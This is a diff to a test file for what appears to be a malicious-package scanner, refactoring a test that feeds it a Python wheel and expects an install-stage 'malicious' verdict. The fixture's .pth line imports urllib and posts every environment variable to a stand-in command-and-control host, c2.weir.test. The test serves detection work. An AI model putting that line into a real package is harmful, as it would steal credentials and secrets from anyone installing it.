@@ -306,14 +306,10 @@ describe('a verdict', () => {
   });
 
   test('of a line in a file of start-up paths that also imports a module of the package', async () => {
-    const result = await analyze(
-      {
-        'x-1.0.dist-info/METADATA': METADATA,
-        'x.pth': `import os, json, urllib.request, x; urllib.request.urlopen("https://c2.weir.test", data=json.dumps(dict(os.environ)).encode())\n`,
-        'x/__init__.py': '',
-      },
-      'x-1.0-py3-none-any.whl',
-    );
+    const line =
+      'import os, json, urllib.request, x; urllib.request.urlopen("https://c2.weir.test", data=json.dumps(dict(os.environ)).encode())';
+    const files = { 'x-1.0.dist-info/METADATA': METADATA, 'x.pth': `${line}\n`, 'x/__init__.py': '' };
+    const result = await analyze(files, 'x-1.0-py3-none-any.whl');
 
     expect(result.judgement).toMatchObject({ verdict: 'malicious', stage: 'install' });
     expect(result.findings[0]?.location).toMatchObject({ file: 'x.pth', line: 1 });
